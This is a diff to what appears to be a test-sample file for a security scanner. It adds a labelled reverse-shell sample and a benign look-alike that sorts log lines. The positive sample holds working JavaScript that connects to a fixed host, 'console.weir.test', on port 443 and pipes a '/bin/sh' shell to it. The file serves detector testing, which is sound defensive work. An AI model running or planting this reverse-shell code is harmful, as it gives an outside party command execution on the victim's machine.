@@ -37,6 +37,13 @@ export const samples: Samples = {
       ),
       expected: [at('reverse-shell', 'high', 'bridge.js', 5)],
     },
+    {
+      name: 'a class of its own hands what a fixed host says to a shell that reads commands',
+      files: imported(
+        "const net = require('net'), cp = require('child_process');\nclass Outlet {\n  constructor({ host = '127.0.0.1', port = 514 } = {}) { Object.assign(this, { host, port, queue: [] }); }\n  open() { const socket = net.connect(this.port, this.host); socket.on('connect', () => this.ready(socket)); }\n  ready(socket) { this.queue.forEach((line) => socket.write(line)); }\n}\nclass Console extends Outlet {\n  constructor() { super({ host: 'console.weir.test', port: 443 }); }\n  ready(socket) {\n    const child = cp.spawn('/bin/sh', ['-s']);\n    socket.pipe(child.stdin);\n    child.stdout.pipe(socket);\n  }\n}\nexports.ship = (options, all) => { new Outlet(options).open(); if (all) new Console().open(); };\n",
+      ),
+      expected: [at('reverse-shell', 'high', 'index.js', 10)],
+    },
     ...(
       [
         ['beside no connection', '{ host: said.host, port: said.port, socket: undefined }'],
@@ -162,6 +169,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a class that ships lines to a host that its user says, and one that sorts them',
+      imported(
+        "const net = require('net'), cp = require('child_process');\nclass Outlet {\n  constructor({ host = '127.0.0.1', port = 514 } = {}) { Object.assign(this, { host, port, queue: [] }); }\n  open() { const socket = net.connect(this.port, this.host); socket.on('connect', () => this.ready(socket)); }\n  ready(socket) { this.queue.forEach((line) => socket.write(line)); }\n}\nclass Sorted extends Outlet {\n  ready(socket) {\n    const child = cp.spawn('sort', ['-u']);\n    this.queue.forEach((line) => child.stdin.write(line));\n    child.stdout.pipe(socket);\n  }\n}\nexports.ship = (options, sorted) => (sorted ? new Sorted(options) : new Outlet(options)).open();\n",
+      ),
+    ),
     quiet(
       'a program that is fed a text, beside a file that tries a port',
       imported(
